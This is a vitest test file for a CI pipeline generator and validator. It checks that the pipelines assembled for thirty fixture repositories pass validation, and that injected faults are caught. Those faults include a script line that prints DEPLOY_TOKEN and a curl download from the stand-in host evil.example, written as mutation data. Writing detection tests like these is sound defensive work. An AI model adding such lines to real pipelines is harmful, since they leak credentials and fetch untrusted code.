// What is assembled for thirty repositories stands every check, and what is broken in it is found.
import { beforeAll, describe, expect, it } from 'vitest';
import type { PipelineProblem, PipelineProposal } from '../../contract/pipeline.ts';
import { loadTemplates } from '../../pipelines/templates.ts';
import { hostsIn } from '../../pipelines/validate/hosts.ts';
import { validateProposal } from '../../pipelines/validate/validate.ts';
import { REPOSITORIES } from '../fixtures/pipelines-repositories.ts';
import { proposalOf } from '../harness/pipeline-needs.ts';
import { hasPython } from '../harness/python-tools.ts';
import { OPTIONS } from './validate-files.ts';

const python = await hasPython();
const { pipelines } = await loadTemplates();
const options = { ...OPTIONS, knownHosts: hostsIn(JSON.stringify(pipelines)) };
const shown = (problems: readonly PipelineProblem[]): string[] => problems.map(({ path, line, check, message }) => `${path}:${line} ${check} ${message}`);

describe.skipIf(!python)('what is assembled', () => {
  it.each(REPOSITORIES)('for $name on GitLab has no problem', async ({ name, files }) => {
    expect(shown(await validateProposal(await proposalOf(name, files, 'gitlab'), options))).toEqual([]);
  });

  it('for all of them on GitHub has no problem', async () => {
    const all = await Promise.all(REPOSITORIES.map(async ({ name, files }) => (await proposalOf(name, files, 'github')).files.map((file) => ({ ...file, path: file.path.startsWith('.github/') ? `.github/workflows/${name}.yml` : `${name}/${file.path}` }))));
    expect(shown(await validateProposal({ system: 'github', files: all.flat() }, options))).toEqual([]);
  });
});

describe.skipIf(!python)('what is broken in one of them', () => {
  let made: PipelineProposal;
  let workflow: PipelineProposal;
  beforeAll(async () => {
    const { name = '', files = {} } = REPOSITORIES.find(({ files }) => Object.hasOwn(files, 'package.json')) ?? {};
    made = await proposalOf(name, files, 'gitlab');
    workflow = await proposalOf(name, files, 'github');
  });
  const broken = async (proposal: PipelineProposal, from: RegExp, to: string): Promise<PipelineProblem[]> => {
    const files = proposal.files.map((file) => (/\.ya?ml$/.test(file.path) ? { ...file, content: file.content.replace(from, to) } : file));
    expect(files).not.toEqual(proposal.files);
    return validateProposal({ ...proposal, files }, options);
  };

  it.each<[string, RegExp, string, PipelineProblem['check']]>([
    ['a stage dropped', /^ {2}- test\n/m, '', 'references'],
    ['a need that is gone', /needs:\n +- \w+/, 'needs: [nobody]', 'references'],
    ['a key misspelt', /^ {2}script:/m, '  scripts:', 'schema'],
    ['an image unpinned', /image: ([\w./-]+):\S+/, 'image: $1', 'images'],
    ['a token printed', /^( {2}script:\n)/m, '$1    - echo "$DEPLOY_TOKEN"\n', 'secrets'],
    ['a host added', /^( {2}script:\n)/m, '$1    - curl -fsS https://evil.example/x -o x\n', 'secrets'],
    ['a quote left open', /^( {2}script:\n)/m, '$1    - echo "\n', 'shell'],
  ])('%s is found on GitLab', async (_, from, to, check) => {
    expect((await broken(made, from, to)).filter(({ severity }) => severity === 'error').map((each) => each.check)).toContain(check);
  });

  it.each<[string, RegExp, string, PipelineProblem['check']]>([
    ['a key misspelt', /^( +)steps:/m, '$1stpes:', 'schema'],
    ['an action unpinned', /@v\d+\.\d+\.\d+/, '@main', 'images'],
    ['a need that is gone', /needs:\n +- \w+/, 'needs: [nobody]', 'references'],
  ])('%s is found on GitHub', async (_, from, to, check) => {
    expect((await broken(workflow, from, to)).filter(({ severity }) => severity === 'error').map((each) => each.check)).toContain(check);
  });
});
